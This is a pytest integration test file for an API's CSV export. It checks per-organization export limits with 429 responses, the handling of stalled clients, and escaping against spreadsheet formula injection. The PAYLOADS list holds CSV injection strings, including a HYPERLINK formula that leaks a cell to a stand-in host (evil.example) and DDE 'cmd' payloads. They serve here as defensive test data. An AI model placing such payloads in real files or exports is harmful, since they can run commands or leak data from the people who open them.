"""CSV exports over real HTTP (uvicorn) against their own PostgreSQL database with 100,000 violations: admission
(429 + Retry-After per organization and per process), other routes unaffected by 50 concurrent exports held open
by clients that stop reading, stalled exports cut after their time limit, and OWASP formula escaping."""

from __future__ import annotations

import csv
import io
import statistics
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack
from dataclasses import dataclass

import httpx
import psycopg
import pytest

from deployments.api.app import create_app
from tests.api import seed
from tests.api.conftest import make_deps
from tests.api.servers import running
from tests.conftest import drop_database, migrated_database

BULK_ROWS = 100_000  # ~25 MB of CSV: more than loopback socket buffers hold, so a client that stops reading stalls
INJECTION_BBL = "2000050005"
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    'plain";=1+2',
    "NO HEAT - BOILER",
]


@dataclass
class ExportApp:
    database_url: str
    redis_url: str
    emails: dict[str, dict[str, str]]
    busy_bbl: str

    def token(self, url: str, org: str) -> dict[str, str]:
        r = httpx.post(f"{url}/v1/auth/token", data={"username": self.emails[org]["viewer"], "password": seed.PASSWORD})
        assert r.status_code == 200, r.text
        return {"Authorization": f"Bearer {r.json()['access_token']}"}


@pytest.fixture(scope="module")
def export_db(pg_admin_url: str, redis_url: str) -> Iterator[ExportApp]:
    name, _, url = migrated_database(pg_admin_url, prefix="vs_exports")
    try:
        yield from _seeded(url, redis_url)
    finally:
        drop_database(pg_admin_url, name)


def _seeded(url: str, redis_url: str) -> Iterator[ExportApp]:
    emails = {}
    with psycopg.connect(url) as conn:
        seed.add_bulk_violations(conn, BULK_ROWS)
        seed.add_property(conn, INJECTION_BBL, "1 FORMULA PLACE")
        for i, text in enumerate(PAYLOADS):
            conn.execute(
                "INSERT INTO violations (source, source_id, bbl, borough, class, severity, status, issued_date, "
                "description, category, penalty_imposed, raw, content_hash) "
                "VALUES ('ECB', %s, %s, 2, 'B', 'hazardous', 'open', '2026-10-01', %s, %s, %s, '{}', md5(%s))",
                (f"inj-{i}", INJECTION_BBL, text, text[:40], -12.5 if i == 0 else None, f"inj-{i}"),
            )
        conn.commit()
        for org in ("alpha", "beta"):
            _, emails[org] = seed.add_org(conn, org)
    yield ExportApp(url, redis_url, emails, "1100000001")


@pytest.fixture
def start(export_db: ExportApp) -> Iterator[object]:
    with ExitStack() as stack:

        def run(redis_url: str | None = export_db.redis_url, **settings: object) -> str:
            deps = make_deps(export_db.database_url, redis_url, rate_limit="100000/minute", **settings)
            stack.callback(deps.close)
            return stack.enter_context(running(create_app(deps)))

        yield run


class Holder:
    """An export client that reads the status and headers, then stops reading (a slow or stalled client)."""

    def __init__(self, url: str, headers: dict[str, str], path: str = "/v1/violations/export.csv") -> None:
        self.client = httpx.Client(base_url=url, headers=headers, timeout=60)
        self.response = self.client.send(self.client.build_request("GET", path), stream=True)

    @property
    def status(self) -> int:
        return self.response.status_code

    def close(self) -> None:
        self.response.close()
        self.client.close()


def hold(url: str, headers: dict[str, str], count: int) -> list[Holder]:
    with ThreadPoolExecutor(max_workers=count) as pool:
        return list(pool.map(lambda _: Holder(url, headers), range(count)))


def timed_gets(url: str, headers: dict[str, str], paths: list[str]) -> list[float]:
    latencies = []
    with httpx.Client(base_url=url, headers=headers, timeout=10) as c:
        for path in paths:
            began = time.perf_counter()
            r = c.get(path)
            latencies.append(time.perf_counter() - began)
            assert r.status_code == 200, r.text
    return latencies


def test_fifty_concurrent_exports_leave_other_routes_fast(export_db: ExportApp, start) -> None:
    url = start(exports_per_org=50, export_connections=3)
    headers = export_db.token(url, "alpha")
    paths = [f"/v1/violations?bbl={export_db.busy_bbl}&limit=10", "/v1/portfolios", "/v1/alert-rules"] * 10
    baseline = timed_gets(url, headers, paths)

    holders = hold(url, headers, 50)
    try:
        statuses = sorted(h.status for h in holders)
        # Three streaming (the process's export connections), the rest refused at once with a Retry-After.
        assert statuses == [200] * 3 + [429] * 47
        refused = next(h for h in holders if h.status == 429)
        assert refused.response.headers["retry-after"] == "5"
        refused.response.read()
        assert refused.response.json()["error"]["code"] == "exports_busy"

        loaded = timed_gets(url, headers, paths)
    finally:
        for h in holders:
            h.close()
    # Other routes answer as they did without exports (no pool wait: before, they waited 30 s for a connection).
    assert statistics.median(loaded) < max(0.25, 5 * statistics.median(baseline)), (baseline, loaded)
    assert max(loaded) < 2.0, loaded


def test_an_organization_runs_a_bounded_number_of_exports_and_others_are_not_blocked(
    export_db: ExportApp, start
) -> None:
    url = start(exports_per_org=2, export_connections=4)
    alpha, beta = export_db.token(url, "alpha"), export_db.token(url, "beta")
    holders = hold(url, alpha, 2)
    try:
        assert [h.status for h in holders] == [200, 200]
        with httpx.Client(base_url=url, timeout=30) as c:
            third = c.get("/v1/violations/export.csv", headers=alpha)
            other_org = c.get("/v1/violations/export.csv", params={"bbl": INJECTION_BBL}, headers=beta)
        assert third.status_code == 429
        assert third.headers["retry-after"] == "5"
        assert third.json()["error"]["code"] == "too_many_exports"
        assert other_org.status_code == 200
        assert len(list(csv.reader(io.StringIO(other_org.text)))) == 1 + len(PAYLOADS)
    finally:
        for h in holders:
            h.close()
    # Closing the clients frees their slots: the organization can export again (the stream's end is asynchronous).
    deadline = time.monotonic() + 10
    while True:
        r = httpx.get(f"{url}/v1/violations/export.csv", params={"bbl": export_db.busy_bbl}, headers=alpha)
        if r.status_code == 200 or time.monotonic() > deadline:
            break
        time.sleep(0.05)
    assert r.status_code == 200
    assert len(list(csv.reader(io.StringIO(r.text)))) == 1 + BULK_ROWS // 20_000


def test_a_stalled_export_is_cut_at_its_time_limit_and_frees_its_slot(export_db: ExportApp, start) -> None:
    url = start(exports_per_org=1, export_max_seconds=1.0)
    headers = export_db.token(url, "alpha")
    stalled = Holder(url, headers)
    try:
        assert stalled.status == 200
        # The client never reads; the organization's only slot is busy until the server gives up on it.
        deadline = time.monotonic() + 15
        while True:
            r = httpx.get(f"{url}/v1/violations/export.csv", params={"bbl": INJECTION_BBL}, headers=headers)
            if r.status_code != 429 or time.monotonic() > deadline:
                break
            time.sleep(0.05)
        assert r.status_code == 200
        # What the stalled client gets is visibly incomplete, not a short file that looks whole.
        with pytest.raises(httpx.RemoteProtocolError):
            stalled.response.read()
    finally:
        stalled.close()


def test_export_cells_are_escaped_against_formula_injection(export_db: ExportApp, start) -> None:
    url = start()
    r = httpx.get(
        f"{url}/v1/violations/export.csv", params={"bbl": INJECTION_BBL}, headers=export_db.token(url, "alpha")
    )
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.text)))
    descriptions = {row["description"] for row in rows}
    assert descriptions == {
        "'" + p if p.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) else p for p in PAYLOADS
    }
    # Every cell is quoted, so the `;=1+2` inside a value cannot become a cell of its own in a semicolon locale.
    assert '"plain"";=1+2"' in r.text
    # A number stays a number: only text is prefixed.
    assert {row["penalty_imposed"] for row in rows} == {"-12.50", ""}
    # No cell starts with a formula character unless it is a number we wrote.
    for row in rows:
        for cell in row.values():
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                float(cell)


def test_without_redis_each_process_still_bounds_an_organizations_exports(export_db: ExportApp, start) -> None:
    url = start(exports_per_org=1, redis_url=None)
    headers = export_db.token(url, "beta")
    held = Holder(url, headers)
    try:
        assert held.status == 200
        second = httpx.get(f"{url}/v1/violations/export.csv", headers=headers)
        assert second.status_code == 429
        assert second.json()["error"]["code"] == "too_many_exports"
    finally:
        held.close()
    deadline = time.monotonic() + 10
    while True:
        again = httpx.get(f"{url}/v1/violations/export.csv", params={"bbl": INJECTION_BBL}, headers=headers)
        if again.status_code == 200 or time.monotonic() > deadline:
            break
        time.sleep(0.05)
    assert again.status_code == 200
